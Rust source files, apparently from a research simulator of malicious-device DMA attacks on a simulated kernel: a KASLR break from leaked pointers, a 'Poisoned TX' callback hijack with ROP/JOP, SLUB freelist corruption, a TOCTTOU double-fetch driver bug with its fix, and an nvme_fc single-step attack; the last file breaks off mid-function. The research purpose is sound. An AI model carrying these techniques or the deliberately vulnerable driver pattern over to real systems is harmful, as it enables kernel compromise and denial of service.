    for case in 0..CASES {
        let cookie = meta.next_u64();
        let a_off = meta.below(1 << 21);
        let mut b_off = meta.below(1 << 21);
        if b_off == a_off {
            b_off = (b_off + 1) % (1 << 21);
        }
        let a = VmRegion::KernelText.start() + a_off;
        let b = VmRegion::KernelText.start() + b_off;
        let samples = [blind(a, cookie), blind(b, cookie)];
        assert_eq!(
            recover_cookie(&samples, &[a, b]),
            Some(cookie),
            "case {case}"
        );
    }
}

#[test]
fn image_symbols_stay_inside_text() {
    // Image builds cost ~100 ms each; keep this property to a few cases.
    let mut meta = DetRng::new(0x55);
    for case in 0..6 {
        let seed = meta.next_u64();
        let img = KernelImage::build(seed, 16 << 20);
        for s in &img.symbols {
            assert!(
                (s.offset as usize) < img.bytes.len(),
                "case {case} seed={seed}"
            );
        }
        // The pivot gadget is always discoverable by the scanner.
        let found = scan_gadgets(&img.bytes)
            .into_iter()
            .any(|g| matches!(g.kind, attacks::GadgetKind::JopRspRdi { .. }));
        assert!(found, "case {case} seed={seed}");
    }
}

#[test]
fn kaslr_absorb_never_produces_misaligned_bases() {
    let mut meta = DetRng::new(0x56);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let n = rng.below(32) as usize;
        let values: Vec<u64> = (0..n).map(|_| rng.next_u64()).collect();
        let mut k = AttackerKnowledge::new();
        let leaks: Vec<devsim::LeakedPointer> = values
            .iter()
            .filter_map(|&v| {
                VmRegion::classify(v).map(|region| devsim::LeakedPointer {
                    iova: Iova(0),
                    value: v,
                    region,
                })
            })
            .collect();
        k.absorb(&leaks);
        if let Some(t) = k.text_base {
            assert_eq!(t.raw() % dma_core::layout::TEXT_ALIGN, 0, "case {case}");
        }
        if let Some(d) = k.page_offset_base {
            assert_eq!(d.raw() % dma_core::layout::SECTION_ALIGN, 0, "case {case}");
            assert_eq!(d.raw() & PAGE_MASK, 0, "case {case}");
        }
        if let Some(v) = k.vmemmap_base {
            assert_eq!(v.raw() % dma_core::layout::SECTION_ALIGN, 0, "case {case}");
        }
    }
}
