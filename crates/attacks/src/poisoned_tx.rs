//! The Poisoned TX compound attack (§5.4, Figure 8).
//!
//! When the RingFlood PFN guess is not an option (small driver
//! footprint), the attacker *reads* the missing KVA instead of guessing
//! it: a userspace service (here: an echo server) is coerced into
//! sending the attacker's own bytes back out. The TX packet's
//! `skb_shared_info` — READ-mapped for the device along with the linear
//! buffer's page — then contains `frags[]` entries whose `struct page`
//! pointers name the very page holding the attacker's payload.
//!
//! The attack runs in two rounds:
//!
//! 1. A probe packet is echoed; scanning the READ-mapped TX page leaks
//!    `init_net` (text base), slab heap pointers (`page_offset_base`)
//!    and `frags[]` (`vmemmap_base`) — a complete KASLR break.
//! 2. The poison payload is echoed; the device reads its `struct page`
//!    from the TX shared info, translates it to a KVA (Figure 8 step 3),
//!    **delays the TX completion** so the buffer stays live, acquires a
//!    write window on a fresh RX buffer, points its `destructor_arg` at
//!    the now-known poison KVA, and lets `kfree_skb` do the rest.

use crate::cpu::MiniCpu;
use crate::hijack;
use crate::image::KernelImage;
use crate::kaslr::AttackerKnowledge;
use crate::rop::PoisonedBuffer;
use crate::window::{rx_with_window, PoisonPlan};
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use dma_core::vuln::{AttackOutcome, WindowPath};
use dma_core::{DmaError, Iova, Kva, Result, PAGE_MASK, PAGE_SIZE};
use sim_iommu::{InvalidationMode, IommuConfig};
use sim_net::driver::{DriverConfig, UnmapOrder};
use sim_net::packet::Packet;
use sim_net::shinfo::{FRAG_SIZE, SHINFO_FRAGS};
use sim_net::skb::NET_SKB_PAD;
use sim_net::stack::StackConfig;

/// Byte offset of the poison within the attack packet's payload.
const POISON_IN_PAYLOAD: usize = 64;

/// Report of a Poisoned TX run.
#[derive(Clone, Debug)]
pub struct PoisonedTxReport {
    /// Outcome.
    pub outcome: AttackOutcome,
    /// Knowledge recovered in round 1.
    pub knowledge: AttackerKnowledge,
    /// The poison KVA read out of the TX shared info (Figure 8 step 3).
    pub poison_kva: Option<Kva>,
    /// Whether the driver's TX watchdog fired before the attack landed.
    pub watchdog_fired: bool,
}

/// Boots the victim for this attack: an echo service is reachable, the
/// IOMMU/driver are configured per the requested window path.
pub fn boot(window: WindowPath, seed: u64) -> Result<Testbed> {
    Testbed::new(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(seed),
            ..Default::default()
        },
        iommu: IommuConfig {
            mode: match window {
                WindowPath::DeferredIotlb => InvalidationMode::Deferred,
                _ => InvalidationMode::Strict,
            },
            ..Default::default()
        },
        driver: DriverConfig {
            unmap_order: match window {
                WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
                _ => UnmapOrder::UnmapThenBuild,
            },
            ..Default::default()
        },
        stack: StackConfig {
            echo_service: true,
            ..Default::default()
        },
        boot_noise_seed: Some(seed),
    })
}

/// Sends a packet from the device to the echo service and returns the
/// index of the TX descriptor carrying the reply.
fn echo_round(tb: &mut Testbed, src: u32, payload: Vec<u8>) -> Result<usize> {
    let before: Vec<usize> = tb.driver.tx_descriptors().iter().map(|d| d.idx).collect();
    let descs = tb.driver.rx_descriptors();
    let (iova, _) = *descs.first().ok_or(DmaError::RingEmpty)?;
    let p = Packet::udp(src, 1, payload);
    let n = tb
        .nic
        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, &p)?;
    tb.driver.device_rx_complete(n)?;
    tb.rx_process()?;
    tb.driver
        .tx_descriptors()
        .iter()
        .map(|d| d.idx)
        .find(|i| !before.contains(i))
        .ok_or(DmaError::AttackFailed("echo service produced no TX packet"))
}

/// Reads the TX skb's shared info through the linear mapping's page and
/// extracts `frags[0]` — device-side (Figure 8: "the NIC identifies the
/// poisoned buffer").
///
/// The device knows `alloc_skb`'s geometry from the kernel source: the
/// linear IOVA points `NET_SKB_PAD` into the buffer and the shared info
/// sits at `data + buf_size`, i.e. `linear_iova - NET_SKB_PAD +
/// buf_size`.
fn read_tx_frag0(tb: &mut Testbed, tx_idx: usize, buf_size: usize) -> Result<(u64, u32, u32)> {
    let desc = tb
        .driver
        .tx_descriptors()
        .into_iter()
        .find(|d| d.idx == tx_idx)
        .ok_or(DmaError::AttackFailed("TX descriptor vanished"))?;
    let shinfo_iova =
        Iova(desc.iova.raw() - NET_SKB_PAD as u64 + buf_size as u64 + SHINFO_FRAGS as u64);
    let page = tb
        .nic
        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, shinfo_iova)?;
    let mut rest = [0u8; 8];
    tb.nic.read(
        &mut tb.ctx,
        &mut tb.iommu,
        &tb.mem.phys,
        Iova(shinfo_iova.raw() + 8),
        &mut rest,
    )?;
    let offset = u32::from_le_bytes(rest[0..4].try_into().expect("4 bytes"));
    let size = u32::from_le_bytes(rest[4..8].try_into().expect("4 bytes"));
    let _ = FRAG_SIZE;
    Ok((page, offset, size))
}

/// The echo TX skb's `buf_size` (device-known build constant: the echo
/// path allocates `alloc_skb(HEADER_SIZE + 64)`).
fn echo_tx_buf_size() -> usize {
    sim_net::skb::skb_data_align(NET_SKB_PAD + sim_net::packet::HEADER_SIZE + 64)
}

/// Runs the Poisoned TX attack end to end.
pub fn run(image: &KernelImage, window: WindowPath, seed: u64) -> Result<PoisonedTxReport> {
    let mut tb = boot(window, seed)?;
    tb.mem.install_text(&image.bytes);

    // ---- Round 1: probe echoes → KASLR break from the TX pages. ----
    // Each echo allocates a fresh socket and TX skb from the same
    // kmalloc-512 caches, and each READ-mapped TX page is scanned: it
    // carries heap pointers, the shared info's frag (a vmemmap pointer),
    // and — sooner or later — a socket's init_net pointer ("scanning
    // leaked pages during I/O", §2.4). A handful of probes suffices.
    let mut knowledge = AttackerKnowledge::new();
    for probe in 0u8..8 {
        // A fresh source address per probe: a new flow means a fresh
        // socket allocation right next to the probe's own TX buffer.
        let probe_idx = echo_round(&mut tb, 0x600 + probe as u32, vec![0xa5 ^ probe; 96])?;
        let probe_desc = tb
            .driver
            .tx_descriptors()
            .into_iter()
            .find(|d| d.idx == probe_idx)
            .ok_or(DmaError::AttackFailed("probe TX descriptor missing"))?;
        let page_iova = Iova(probe_desc.iova.raw() & !PAGE_MASK);
        let leaks = tb.nic.scan_for_pointers(
            &mut tb.ctx,
            &mut tb.iommu,
            &tb.mem.phys,
            page_iova,
            PAGE_SIZE,
        )?;
        knowledge.absorb(&leaks);
        // Let this probe's TX complete normally (nothing suspicious).
        tb.complete_all_tx()?;
        if knowledge.complete() {
            break;
        }
    }
    if !knowledge.complete() {
        return Ok(PoisonedTxReport {
            outcome: AttackOutcome::Blocked("round-1 scans did not break KASLR"),
            knowledge,
            poison_kva: None,
            watchdog_fired: false,
        });
    }

    // ---- Round 2: echo the poison, read its KVA, strike. ----
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    let mut payload = vec![0u8; POISON_IN_PAYLOAD];
    payload.extend_from_slice(&poison.bytes);
    let atk_idx = echo_round(&mut tb, 0x66, payload)?;

    // Figure 8 step 3: struct page → KVA.
    let (page, offset, _size) = read_tx_frag0(&mut tb, atk_idx, echo_tx_buf_size())?;
    let payload_kva = knowledge.page_ptr_to_kva(page, offset)?;
    let poison_kva = Kva(payload_kva.raw() + POISON_IN_PAYLOAD as u64);

    // Step 2 (delay): the device simply does NOT complete atk_idx. The
    // watchdog gives it seconds; the strike takes microseconds.
    let watchdog_fired = tb
        .driver
        .tx_timeout_check(&mut tb.ctx, &mut tb.mem, &mut tb.iommu)?;

    // Step 4: window on a fresh RX buffer, destructor_arg → poison KVA.
    let plan = PoisonPlan {
        poison_kva: poison_kva.raw(),
    };
    let trigger = Packet::udp(0x67, 99, b"innocuous".to_vec()); // non-local, dropped
    let (skb, poisoned) = rx_with_window(&mut tb, window, &trigger, &plan)?;
    if !poisoned {
        return Ok(PoisonedTxReport {
            outcome: AttackOutcome::Blocked("no usable write window on the RX buffer"),
            knowledge,
            poison_kva: Some(poison_kva),
            watchdog_fired,
        });
    }
    tb.stack
        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
    let pending = tb
        .stack
        .pending_callbacks
        .pop()
        .ok_or(DmaError::AttackFailed("kfree_skb surfaced no callback"))?;
    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
    let outcome = hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, 2);
    Ok(PoisonedTxReport {
        outcome,
        knowledge,
        poison_kva: Some(poison_kva),
        watchdog_fired,
    })
}
