//! Denial-of-service and allocator-corruption attacks (§3.1:
//! "a malicious device can corrupt random memory regions, resulting in a
//! denial of service attack"; §3.2(b): manipulating allocator free-lists
//! "may also compromise the system" [Phrack 66-8]).
//!
//! The SLUB freelist pointer lives *inside the free object on the page*
//! (see `sim_mem::slab`). When a driver maps any buffer from that page,
//! the device can rewrite the pointer:
//!
//! - pointing it at garbage makes the next allocation from the slab
//!   return an unusable address → kernel crash (DoS);
//! - pointing it at a *chosen valid* KVA makes `kmalloc` hand out an
//!   attacker-selected object — an arbitrary-allocation primitive.

use devsim::MaliciousNic;
use dma_core::{DmaError, Iova, Kva, Result, SimCtx};
use sim_iommu::{DmaMapping, Iommu};
use sim_mem::MemorySystem;

/// Result of the freelist-corruption attack.
#[derive(Clone, Debug)]
pub struct DosReport {
    /// Whether the kernel "panicked" (an allocation returned a broken
    /// address / the allocator errored out).
    pub panicked: bool,
    /// Allocations served from the slab before the corruption hit.
    pub allocations_until_panic: usize,
    /// The freelist slot the device overwrote.
    pub corrupted_slot: Kva,
}

/// Finds a *free* slab object on the mapped page by scanning device-side
/// for a plausible freelist pointer (a direct-map value or 0), then
/// overwrites it with `poison_next`.
///
/// `mapping` must be a bidirectional mapping of a kmalloc'd buffer (e.g.
/// the driver's command queue); `class_size` is the slab's object size
/// (a build constant the attacker knows from the kernel source).
pub fn corrupt_freelist(
    nic: &MaliciousNic,
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    mem: &mut MemorySystem,
    mapping: &DmaMapping,
    class_size: usize,
    poison_next: u64,
) -> Result<Kva> {
    let page_iova = Iova(mapping.iova.raw() & !0xfff);
    let page_kva_base = mapping.kva.page_align_down();
    // Scan each object slot's first word; a freelist link points at
    // another slot *on this very page* (partial slabs keep locality) or
    // holds 0 (end of list). A live object's first word is arbitrary
    // data, so the attacker confirms candidates by the in-page pattern.
    let slots = dma_core::PAGE_SIZE / class_size;
    for i in 0..slots {
        let off = (i * class_size) as u64;
        let val = nic.read_u64(ctx, iommu, &mem.phys, Iova(page_iova.raw() + off))?;
        let looks_like_link = val == 0
            || (val & !0xfff) == (page_kva_base.raw() & !0xfff)
            || dma_core::layout::VmRegion::classify(val)
                == Some(dma_core::layout::VmRegion::DirectMap);
        if looks_like_link && Kva(page_kva_base.raw() + off) != mapping.kva {
            nic.write_u64(
                ctx,
                iommu,
                &mut mem.phys,
                Iova(page_iova.raw() + off),
                poison_next,
            )?;
            return Ok(Kva(page_kva_base.raw() + off));
        }
    }
    Err(DmaError::AttackFailed(
        "no freelist slot found on the mapped page",
    ))
}

/// Runs the DoS: corrupts the freelist under a mapped command queue and
/// then lets the kernel allocate until it trips over the poison.
pub fn run_dos(
    nic: &MaliciousNic,
    ctx: &mut SimCtx,
    iommu: &mut Iommu,
    mem: &mut MemorySystem,
    mapping: &DmaMapping,
    class_size: usize,
) -> Result<DosReport> {
    // Ensure the page has free slots whose links the device can find:
    // benign churn frees a couple of neighbours.
    let a = mem.kmalloc(ctx, class_size, "churn_a")?;
    let b = mem.kmalloc(ctx, class_size, "churn_b")?;
    mem.kfree(ctx, a)?;
    mem.kfree(ctx, b)?;

    let corrupted_slot = corrupt_freelist(
        nic,
        ctx,
        iommu,
        mem,
        mapping,
        class_size,
        0xdead_dead_dead_dead,
    )?;

    // The kernel keeps allocating; sooner or later the poisoned link is
    // popped and the allocator hands back garbage → oops.
    for n in 0..64 {
        match mem.kmalloc(ctx, class_size, "victim_alloc") {
            Ok(kva) => {
                // An allocation "landing" on a non-direct-map address is
                // the crash; our allocator returns Err instead, but be
                // thorough in case the poison was a valid-looking KVA.
                if mem.layout.kva_to_phys(kva).is_err() {
                    return Ok(DosReport {
                        panicked: true,
                        allocations_until_panic: n,
                        corrupted_slot,
                    });
                }
            }
            Err(_) => {
                return Ok(DosReport {
                    panicked: true,
                    allocations_until_panic: n,
                    corrupted_slot,
                });
            }
        }
    }
    Ok(DosReport {
        panicked: false,
        allocations_until_panic: 64,
        corrupted_slot,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::vuln::DmaDirection;
    use sim_iommu::{dma_map_single, InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup() -> (SimCtx, MemorySystem, Iommu, MaliciousNic, DmaMapping) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(7);
        // The driver maps its kmalloc'd command queue bidirectionally.
        let cmdq = mem.kzalloc(&mut ctx, 512, "nic_cmd_queue").unwrap();
        let m = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            7,
            cmdq,
            512,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        (ctx, mem, iommu, MaliciousNic::new(7), m)
    }

    #[test]
    fn freelist_corruption_crashes_the_allocator() {
        let (mut ctx, mut mem, mut iommu, nic, m) = setup();
        let report = run_dos(&nic, &mut ctx, &mut iommu, &mut mem, &m, 512).unwrap();
        assert!(
            report.panicked,
            "poisoned freelist must take the allocator down"
        );
        assert!(report.allocations_until_panic < 16);
    }

    #[test]
    fn chosen_pointer_becomes_an_arbitrary_allocation() {
        // Instead of garbage, point the freelist at a *chosen* object:
        // the allocator will hand it out as a fresh allocation.
        let (mut ctx, mut mem, mut iommu, nic, m) = setup();
        let target = mem.kzalloc(&mut ctx, 512, "precious_object").unwrap();
        // A live object holds real content (a zeroed one is
        // indistinguishable from an end-of-list freelist slot and the
        // scan would corrupt it instead).
        mem.cpu_write(&mut ctx, target, &[0x41u8; 512], "object_init")
            .unwrap();
        // Free two neighbours to create links on the mapped page.
        let a = mem.kmalloc(&mut ctx, 512, "churn").unwrap();
        let b = mem.kmalloc(&mut ctx, 512, "churn").unwrap();
        mem.kfree(&mut ctx, a).unwrap();
        mem.kfree(&mut ctx, b).unwrap();
        corrupt_freelist(&nic, &mut ctx, &mut iommu, &mut mem, &m, 512, target.raw()).unwrap();
        // Allocate until the poisoned link is served.
        let mut got_target = false;
        for _ in 0..16 {
            match mem.kmalloc(&mut ctx, 512, "victim") {
                Ok(k) if k == target => {
                    got_target = true;
                    break;
                }
                Ok(_) => {}
                Err(_) => break,
            }
        }
        assert!(got_target, "kmalloc must return the attacker-chosen object");
    }

    #[test]
    fn unmapped_page_is_safe() {
        // Control: without a mapping the device cannot corrupt anything.
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig::default());
        iommu.attach_device(7);
        let nic = MaliciousNic::new(7);
        let fake = DmaMapping {
            iova: Iova(0x4000_0000),
            kva: mem.kmalloc(&mut ctx, 512, "x").unwrap(),
            len: 512,
            dir: DmaDirection::Bidirectional,
            pages: 1,
            device: 7,
        };
        assert!(corrupt_freelist(&nic, &mut ctx, &mut iommu, &mut mem, &fake, 512, 0xbad).is_err());
    }
}
