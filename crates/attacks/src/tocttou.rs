//! Time-of-check-to-time-of-use (TOCTTOU) against shared control
//! structures — the attack class of Beniamini's Wi-Fi exploits the paper
//! cites in §8 ("the attack exploited a Time of Check To Time of Use
//! vulnerability in the NIC driver. ... all the DMA writes were legal,
//! made only to buffers currently mapped to the device").
//!
//! The model: a driver reads a device-written message
//! `{ len: u32, payload[...] }` from a BIDIRECTIONAL-mapped control
//! buffer, validates `len ≤ MAX`, *then reads len again* when copying —
//! a double-fetch. A device flipping `len` between the two reads makes
//! the driver overflow its fixed-size kernel destination. Every DMA
//! write involved is to a legitimately mapped buffer.

use devsim::MaliciousNic;
use dma_core::{DmaError, Iova, Kva, Result, SimCtx};
use sim_iommu::{DmaMapping, Iommu};
use sim_mem::MemorySystem;

/// The driver's fixed copy destination size.
pub const DEST_SIZE: usize = 64;

/// The vulnerable driver routine: double-fetches `len` from the mapped
/// control buffer. `race` models concurrent device DMA between the
/// check and the use (just like the RX race hook in `sim_net::driver`).
///
/// Returns the number of bytes copied into `dest`.
pub fn vulnerable_ctrl_copy<F>(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    mapping: &DmaMapping,
    dest: Kva,
    mut race: F,
) -> Result<usize>
where
    F: FnMut(&mut SimCtx, &mut MemorySystem, &mut Iommu),
{
    // CHECK: first fetch of the length.
    let len1 = mem.cpu_read_u64(ctx, mapping.kva, "drv_ctrl_check")? as usize & 0xffff_ffff;
    if len1 > DEST_SIZE {
        return Err(DmaError::Invariant("driver rejected oversized message"));
    }
    // The race window: the device keeps DMAing into its mapped buffer.
    race(ctx, mem, iommu);
    // USE: second fetch — the double-fetch bug.
    let len2 = mem.cpu_read_u64(ctx, mapping.kva, "drv_ctrl_use")? as usize & 0xffff_ffff;
    let mut payload = vec![0u8; len2];
    mem.cpu_read(
        ctx,
        Kva(mapping.kva.raw() + 8),
        &mut payload,
        "drv_ctrl_copy",
    )?;
    mem.cpu_write(ctx, dest, &payload, "drv_ctrl_copy")?;
    Ok(len2)
}

/// The fixed driver: fetches once, uses the checked value.
pub fn fixed_ctrl_copy<F>(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    mapping: &DmaMapping,
    dest: Kva,
    mut race: F,
) -> Result<usize>
where
    F: FnMut(&mut SimCtx, &mut MemorySystem, &mut Iommu),
{
    let len = mem.cpu_read_u64(ctx, mapping.kva, "drv_ctrl_check")? as usize & 0xffff_ffff;
    if len > DEST_SIZE {
        return Err(DmaError::Invariant("driver rejected oversized message"));
    }
    race(ctx, mem, iommu);
    let mut payload = vec![0u8; len];
    mem.cpu_read(
        ctx,
        Kva(mapping.kva.raw() + 8),
        &mut payload,
        "drv_ctrl_copy",
    )?;
    mem.cpu_write(ctx, dest, &payload, "drv_ctrl_copy")?;
    Ok(len)
}

/// The attacker half: writes a benign message, then flips the length
/// during the race window.
pub struct TocttouAttacker {
    /// The attacking device.
    pub nic: MaliciousNic,
    /// The control buffer's IOVA.
    pub iova: Iova,
    /// The inflated length to flip to.
    pub evil_len: u32,
}

impl TocttouAttacker {
    /// Stage the benign-looking message: small length + filler payload.
    pub fn stage(&self, ctx: &mut SimCtx, iommu: &mut Iommu, mem: &mut MemorySystem) -> Result<()> {
        self.nic
            .write_u64(ctx, iommu, &mut mem.phys, self.iova, 16)?;
        let filler = vec![0x41u8; self.evil_len as usize];
        self.nic.write(
            ctx,
            iommu,
            &mut mem.phys,
            Iova(self.iova.raw() + 8),
            &filler,
        )
    }

    /// The race write: inflate the length after the driver's check.
    pub fn flip(&self, ctx: &mut SimCtx, iommu: &mut Iommu, mem: &mut MemorySystem) -> Result<()> {
        self.nic
            .write_u64(ctx, iommu, &mut mem.phys, self.iova, self.evil_len as u64)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::vuln::DmaDirection;
    use sim_iommu::{dma_map_single, InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    struct Rig {
        ctx: SimCtx,
        mem: MemorySystem,
        iommu: Iommu,
        mapping: DmaMapping,
        attacker: TocttouAttacker,
        dest: Kva,
        victim: Kva,
    }

    fn rig() -> Rig {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        iommu.attach_device(7);
        let ctrl = mem.kzalloc(&mut ctx, 512, "wl_ctrl_ring").unwrap();
        let mapping = dma_map_single(
            &mut ctx,
            &mut iommu,
            &mem.layout,
            7,
            ctrl,
            512,
            DmaDirection::Bidirectional,
            "m",
        )
        .unwrap();
        // The copy destination and its innocent neighbour (kmalloc-64).
        let dest = mem.kzalloc(&mut ctx, DEST_SIZE, "drv_msg_buf").unwrap();
        let victim = mem.kzalloc(&mut ctx, DEST_SIZE, "victim_obj").unwrap();
        assert_eq!(victim - dest, DEST_SIZE as u64, "adjacent slab objects");
        let attacker = TocttouAttacker {
            nic: MaliciousNic::new(7),
            iova: mapping.iova,
            evil_len: 160,
        };
        Rig {
            ctx,
            mem,
            iommu,
            mapping,
            attacker,
            dest,
            victim,
        }
    }

    #[test]
    fn double_fetch_overflows_the_neighbour() {
        let mut r = rig();
        r.attacker
            .stage(&mut r.ctx, &mut r.iommu, &mut r.mem)
            .unwrap();
        let attacker = &r.attacker;
        let copied = vulnerable_ctrl_copy(
            &mut r.ctx,
            &mut r.mem,
            &mut r.iommu,
            &r.mapping,
            r.dest,
            |ctx, mem, iommu| {
                attacker.flip(ctx, iommu, mem).unwrap();
            },
        )
        .unwrap();
        assert_eq!(copied, 160, "the inflated length was used");
        // The neighbouring object took the overflow.
        let mut v = [0u8; 8];
        r.mem.cpu_read(&mut r.ctx, r.victim, &mut v, "t").unwrap();
        assert_eq!(v, [0x41; 8], "victim object corrupted by the overflow");
    }

    #[test]
    fn single_fetch_is_immune_to_the_same_race() {
        let mut r = rig();
        r.attacker
            .stage(&mut r.ctx, &mut r.iommu, &mut r.mem)
            .unwrap();
        let attacker = &r.attacker;
        let copied = fixed_ctrl_copy(
            &mut r.ctx,
            &mut r.mem,
            &mut r.iommu,
            &r.mapping,
            r.dest,
            |ctx, mem, iommu| {
                attacker.flip(ctx, iommu, mem).unwrap();
            },
        )
        .unwrap();
        assert_eq!(copied, 16, "the checked length was used");
        let mut v = [0u8; 8];
        r.mem.cpu_read(&mut r.ctx, r.victim, &mut v, "t").unwrap();
        assert_eq!(v, [0u8; 8], "victim untouched");
    }

    #[test]
    fn oversized_first_fetch_is_rejected_outright() {
        let mut r = rig();
        // The attacker writes the big length immediately: the check
        // catches it — TOCTTOU needs the *flip*, not brute force.
        r.attacker
            .nic
            .write_u64(
                &mut r.ctx,
                &mut r.iommu,
                &mut r.mem.phys,
                r.attacker.iova,
                160,
            )
            .unwrap();
        let out = vulnerable_ctrl_copy(
            &mut r.ctx,
            &mut r.mem,
            &mut r.iommu,
            &r.mapping,
            r.dest,
            |_, _, _| {},
        );
        assert!(out.is_err());
    }
}
