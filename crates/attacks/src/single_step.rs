//! A *single-step* attack — the baseline the paper contrasts compound
//! attacks against (§1, §8 "Thunderclap").
//!
//! Modeled on the nvme_fc vulnerability SPADE reports in Figure 2: the
//! driver embeds its DMA response buffer (`rsp_iu`) inside a larger
//! command structure (`struct nvme_fc_fcp_op`) that also holds the
//! completion callback (`fcp_req.done`) — a textbook type (a)
//! vulnerability. One mapped page hands the device all three
//! vulnerability attributes at once:
//!
//! 1. **KVA**: the op struct contains self-referential pointers (list
//!    heads, request back-pointers), so the device reads its own
//!    location.
//! 2. **Callback**: `done` is on the same page, write-accessible.
//! 3. **Window**: the mapping is bidirectional and lives for the whole
//!    command lifetime.

use crate::cpu::MiniCpu;
use crate::hijack;
use crate::image::{KernelImage, JOP_PIVOT_DISP};
use crate::kaslr::AttackerKnowledge;
use crate::rop::PoisonedBuffer;
use devsim::MaliciousNic;
use dma_core::vuln::{AttackOutcome, DmaDirection};
use dma_core::{Iova, Kva, Result, SimCtx};
use sim_iommu::{dma_map_single, DmaMapping, Iommu};
use sim_mem::MemorySystem;
use sim_net::skb::PendingCallback;

/// Layout of the simulated `struct nvme_fc_fcp_op` (128 bytes,
/// kmalloc-128):
///
/// ```text
/// +0    rsp_iu[96]        — the DMA response buffer (what gets mapped)
/// +96   fcp_req.done      — completion callback pointer
/// +104  fcp_req.self      — back-pointer to the op (KVA leak)
/// +112  reserved
/// ```
pub const OP_SIZE: usize = 128;
/// Offset of the `done` callback.
pub const OP_DONE: usize = 96;
/// Offset of the self back-pointer.
pub const OP_SELF: usize = 104;

/// The driver-side half: allocates and maps an op the way the buggy
/// driver does, returning (op KVA, mapping).
pub fn driver_setup_op(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    image: &KernelImage,
    dev: u32,
) -> Result<(Kva, DmaMapping)> {
    let op = mem.kzalloc(ctx, OP_SIZE, "nvme_fc_init_request")?;
    let done = image
        .symbol_addr("nvme_fc_fcpio_done", mem.layout.text_base)
        .expect("symbol present");
    mem.cpu_write_u64(
        ctx,
        Kva(op.raw() + OP_DONE as u64),
        done.raw(),
        "nvme_fc_init_request",
    )?;
    mem.cpu_write_u64(
        ctx,
        Kva(op.raw() + OP_SELF as u64),
        op.raw(),
        "nvme_fc_init_request",
    )?;
    // The driver maps &op->rsp_iu — but the whole page is exposed
    // (Figure 2 line [3]: dma_map_single(&op->rsp_iu)).
    let mapping = dma_map_single(
        ctx,
        iommu,
        &mem.layout,
        dev,
        op,
        96,
        DmaDirection::Bidirectional,
        "nvme_fc_map_rsp_iu",
    )?;
    Ok((op, mapping))
}

/// The CPU-side completion path: reads `done` from (attackable) memory
/// and invokes it with the op pointer — exactly what the interrupt
/// handler does.
pub fn driver_complete_op(
    ctx: &mut SimCtx,
    mem: &MemorySystem,
    op: Kva,
) -> Result<PendingCallback> {
    let done = mem.cpu_read_u64(ctx, Kva(op.raw() + OP_DONE as u64), "nvme_fc_complete")?;
    Ok(PendingCallback {
        callback: Kva(done),
        arg: op,
    })
}

/// Report of a single-step run.
#[derive(Clone, Debug)]
pub struct SingleStepReport {
    /// Outcome.
    pub outcome: AttackOutcome,
    /// The op KVA the device read off the mapped page.
    pub leaked_op_kva: Kva,
    /// The text base recovered from the leaked `done` pointer.
    pub recovered_text_base: Kva,
}

/// Runs the single-step attack: one read burst, one write burst, done.
/// All three attributes come off the single mapped page.
pub fn run(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    iommu: &mut Iommu,
    image: &KernelImage,
    nic: &MaliciousNic,
    mapping: &DmaMapping,
) -> Result<SingleStepReport> {
    // Read the whole op through the mapping.
    let mut op_bytes = [0u8; OP_SIZE];
    nic.read(ctx, iommu, &mem.phys, mapping.iova, &mut op_bytes)?;
    let done = u64::from_le_bytes(op_bytes[OP_DONE..OP_DONE + 8].try_into().expect("8"));
    let op_kva = u64::from_le_bytes(op_bytes[OP_SELF..OP_SELF + 8].try_into().expect("8"));

    // `done` is a known symbol: its image offset is a build constant, so
    // one leak yields the text base.
    let text_base = Kva(done - image.symbol_offset("nvme_fc_fcpio_done").expect("symbol"));
    let knowledge = AttackerKnowledge {
        text_base: Some(text_base),
        page_offset_base: None,
        vmemmap_base: None,
    };

    // Poison: ROP chain inside rsp_iu (offset 0x20..0x50 < OP_DONE), and
    // `done` redirected to the JOP pivot. `%rdi` at completion is the op
    // pointer, so `%rsp = op + 0x20` — inside our chain. No ubuf_info is
    // involved in this variant, only the chain placement matters.
    let poison = PoisonedBuffer::build(image, &knowledge)?;
    debug_assert!(JOP_PIVOT_DISP as usize + 48 <= OP_DONE);
    nic.deposit(ctx, iommu, &mut mem.phys, mapping.iova, 0, &poison.bytes)?;
    let jop = knowledge.rebase(image.symbol_offset("jop_rsp_rdi").expect("symbol"))?;
    nic.write_u64(
        ctx,
        iommu,
        &mut mem.phys,
        Iova(mapping.iova.raw() + OP_DONE as u64),
        jop.raw(),
    )?;

    // The device completes the command; the CPU invokes `done(op)`.
    let pending = driver_complete_op(ctx, mem, Kva(op_kva))?;
    let cpu = MiniCpu::new(image, mem.layout.text_base);
    let outcome = hijack::fire(&cpu, ctx, mem, pending, 1);
    Ok(SingleStepReport {
